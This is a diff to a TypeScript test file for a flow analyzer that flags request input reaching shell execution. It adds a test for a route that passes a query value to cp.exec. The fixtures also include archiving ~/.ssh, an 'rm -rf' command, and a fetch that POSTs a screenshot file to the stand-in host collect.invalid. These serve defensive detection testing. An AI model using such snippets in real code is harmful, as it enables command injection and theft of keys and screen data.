@@ -24,6 +24,14 @@ describe('commands', () => {
     assert.deepEqual(flowsOf(`cp.execSync('tar cf /tmp/keys.tar ~/.ssh');`), []);
   });
 
+  it('are what somebody sends, also where the code knows another one that it runs instead', () => {
+    const route = (command: string) =>
+      `module.exports = (app) => app.post('/run', (req, res) => { const { task } = { ...req.query }; cp.exec(${command}); res.end(); });`;
+    const own = `'rm -rf ' + path.join(process.cwd(), 'out')`;
+    assert.deepEqual(flowsOf(route(`task === 'clean' ? ${own} : task`)), ['request-input>run-as-command']);
+    assert.deepEqual(flowsOf(route(`task === 'clean' ? ${own} : 'ls ' + process.cwd()`)), []);
+  });
+
   it('leave pictures of the screen in files', () => {
     const shot = (command: string) =>
       `cp.execSync(${command}); fetch('https://collect.invalid', { method: 'POST', body: fs.readFileSync('/tmp/.s.png') });`;
